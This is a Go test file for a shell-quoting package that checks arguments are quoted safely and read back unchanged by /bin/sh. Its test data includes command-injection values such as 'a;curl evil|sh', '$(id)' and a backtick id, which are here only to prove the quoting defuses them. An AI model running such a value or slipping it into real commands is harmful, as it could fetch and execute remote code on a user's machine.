// Copyright The Yuba Authors
// SPDX-License-Identifier: Apache-2.0

package shell

import (
	"os/exec"
	"testing"
)

func TestLine(t *testing.T) {
	for want, words := range map[string][]string{
		"yuba logs team/vpc --run 20260102-150405.000-a": {"yuba", "logs", "team/vpc", "--run", "20260102-150405.000-a"},
		"yuba list -n 'a;curl evil|sh'":                  {"yuba", "list", "-n", "a;curl evil|sh"},
		`a 'it'\''s' ''`:                                 {"a", "it's", ""},
		"'größe'":                                        {"größe"},
	} {
		if got := Line(words...); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

// The shell itself says what it takes a word for.
func TestAShellReadsWhatWasWritten(t *testing.T) {
	for _, word := range []string{"", "plain", "a b", "$(id)", "`id`", "a;b", "a'b", "'", "a\nb", "--x", "*", "~", "!x", `a\b`, `"`, "a\tb", "ünï"} {
		out, err := exec.CommandContext(t.Context(), "/bin/sh", "-c", "printf '%s' "+Quote(word)).Output()
		if err != nil || string(out) != word {
			t.Errorf("%q became %q: %v", word, out, err)
		}
	}
}
